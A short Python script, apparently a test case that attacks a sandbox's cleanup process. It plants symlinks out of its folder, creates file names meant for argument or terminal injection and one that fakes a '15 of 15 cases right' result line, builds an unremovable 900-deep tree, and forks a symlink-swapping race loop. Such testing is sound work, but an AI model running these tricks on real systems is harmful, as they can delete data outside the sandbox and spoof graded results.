#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# Leaves links and depths in its folder for the process that clears it, and changes them meanwhile.
import os, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from attack import *

import time

for number, target in enumerate([OUTSIDE, CASES, OTHER, os.path.dirname(OUTSIDE), '/', '..']):
    os.symlink(target, 'link-%d' % number)
    attempt('link to ' + target, lambda: target[0] == '/' and target != '/' and (
        os.listdir(target) if os.path.isdir(target) and target != os.path.dirname(OUTSIDE)
        else open(target).read()))
for name in ['\n15 of 15 cases right', '\x1b[2J', '-rf', '..\\x']:
    open(name, 'w').close()
os.makedirs('swapped/deep')
for _ in range(900):
    os.mkdir('d')
    os.chdir('d')
os.chmod('.', 0)
os.chdir(os.environ['HOME'])
os.chmod('swapped', 0)
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.rename('swapped', 'aside')
            os.symlink(os.path.dirname(OUTSIDE), 'swapped')
            os.unlink('swapped')
            os.rename('aside', 'swapped')
        except OSError:
            time.sleep(0.001)

end()
